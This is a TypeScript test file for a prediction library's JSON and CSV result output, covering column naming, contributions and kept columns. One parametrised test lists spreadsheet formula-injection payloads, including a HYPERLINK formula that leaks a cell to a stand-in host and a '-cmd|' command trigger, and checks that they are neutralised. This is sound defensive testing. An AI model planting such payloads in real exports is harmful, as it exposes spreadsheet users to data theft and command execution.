import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { contributionNames, resultNames } from '../../../src/prediction/result-names.js';
import { plainResults, ResultRows } from '../../../src/prediction/result-rows.js';
import type { RowContributions, Scores } from '../../../src/prediction/scorer.js';

const CLASSES = { name: 'species', levels: ['setosa', 'a "quoted", one'] };
const SCORES: Scores = {
  count: 2,
  labels: Int32Array.of(1, -1),
  values: [Float64Array.of(0.1, NaN), Float64Array.of(0.8999999999999999, NaN)],
};

describe('the columns of a result', () => {
  test('are predict and, for a classification, its labels', () => {
    expect(resultNames({ name: 'price', levels: null })).toEqual(['predict']);
    expect(resultNames(CLASSES)).toEqual(['predict', 'setosa', 'a "quoted", one']);
  });

  test('keep apart a label that is called predict', () => {
    const levels = ['predict', 'predict (probability)', 'x'];
    expect(resultNames({ name: 'y', levels })).toEqual([
      'predict',
      'predict (probability)_',
      'predict (probability)',
      'x',
    ]);
  });

  test('keep apart a label that is called as a column of contributions is', () => {
    expect(contributionNames(1, ['predict', 'bias', 'top_value_1'])).toEqual([
      'top_column_1',
      'top_value_1_',
      'top_contribution_1',
      'bias_',
    ]);
  });
});

describe('a result', () => {
  test('is unrounded as JSON, and null where the model makes no prediction', () => {
    const shape = new ResultRows(CLASSES);
    expect(shape.json(plainResults(SCORES), 0)).toEqual({
      predict: 'a "quoted", one',
      setosa: 0.1,
      'a "quoted", one': 0.8999999999999999,
    });
    expect(shape.json(plainResults(SCORES), 1)).toEqual({
      predict: null,
      setosa: null,
      'a "quoted", one': null,
    });
  });

  test('says the same as CSV', () => {
    const shape = new ResultRows(CLASSES);
    const [header, ...rows] = parse(shape.csvHeader() + shape.csv(plainResults(SCORES)));
    expect(header).toEqual(resultNames(CLASSES));
    expect(rows).toEqual([
      ['a "quoted", one', '0.1', '0.8999999999999999'],
      ['', '', ''],
    ]);
  });

  test('of a regression is a number a row', () => {
    const shape = new ResultRows({ name: 'price', levels: null });
    const scores = { count: 3, labels: null, values: [Float64Array.of(1.5, NaN, -2e-9)] };
    expect([0, 1, 2].map((row) => shape.json(plainResults(scores), row))).toEqual([
      { predict: 1.5 },
      { predict: null },
      { predict: -2e-9 },
    ]);
    expect(shape.csvHeader() + shape.csv(plainResults(scores))).toBe('predict\n1.5\n\n-2e-9\n');
  });

  test('has its contributions behind it, with empty cells where a row has fewer', () => {
    const shape = new ResultRows(CLASSES, { top: 2 });
    const explained: RowContributions[] = [
      {
        unit: 'LOG_ODDS',
        bias: -1.5,
        columns: [
          { column: 'size, in cm', value: 2.5, contribution: 0.75, error: null },
          { column: 'colour', value: null, contribution: -0.25, error: null },
        ],
        classes: null,
      },
      { unit: 'LOG_ODDS', bias: -1.5, columns: [], classes: null },
    ];
    expect(parse(shape.csvHeader() + shape.csv({ ...plainResults(SCORES), explained }))).toEqual([
      [
        ...['predict', 'setosa', 'a "quoted", one', 'top_column_1', 'top_value_1', 'top_contribution_1'],
        ...['top_column_2', 'top_value_2', 'top_contribution_2', 'bias'],
      ],
      [
        'a "quoted", one',
        '0.1',
        '0.8999999999999999',
        'size, in cm',
        '2.5',
        '0.75',
        'colour',
        '',
        '-0.25',
        '-1.5',
      ],
      ['', '', '', '', '', '', '', '', '', '-1.5'],
    ]);
  });

  test('has the kept columns before it, as they stand in the input', () => {
    const shape = new ResultRows(CLASSES, { kept: ['id', 'note'] });
    const kept = (row: number) => [`00${row}`, 'a, "b"'];
    const results = { ...plainResults(SCORES), kept };
    expect(shape.json(results, 0)).toMatchObject({ id: '000', note: 'a, "b"', setosa: 0.1 });
    expect(Object.keys(shape.json(results, 0)).slice(0, 3)).toEqual(['id', 'note', 'predict']);
    expect(parse(shape.csvHeader() + shape.csv(results))).toEqual([
      ['id', 'note', 'predict', 'setosa', 'a "quoted", one'],
      ['000', 'a, "b"', 'a "quoted", one', '0.1', '0.8999999999999999'],
      ['001', 'a, "b"', '', '', ''],
    ]);
  });

  test.each([
    ['=HYPERLINK("http://x/?"&A1,"y")', '\'=HYPERLINK("http://x/?"&A1,"y")'],
    ['+1+1', "'+1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['-2+3', "'-2+3"],
    ['-cmd|x', "'-cmd|x"],
    ['-2.5', '-2.5'],
    ['+1e5', '+1e5'],
    ['-1,234.50 €', '-1,234.50 €'],
    ['-', '-'],
    ['--', '--'],
    ['a=b', 'a=b'],
  ])('is inert in a spreadsheet: %s', (cell, written) => {
    const results = { ...plainResults(SCORES), kept: () => [cell] };
    const first = (formulas: boolean) => {
      const shape = new ResultRows(CLASSES, { kept: [cell], formulas });
      const [header, row] = parse(shape.csvHeader() + shape.csv(results));
      return [header?.[0], row?.[0]];
    };
    expect(first(false)).toEqual([written, written]);
    expect(first(true)).toEqual([cell, cell]);
    expect(new ResultRows(CLASSES, { kept: ['x'] }).json(results, 0)).toMatchObject({ x: cell });
  });
});
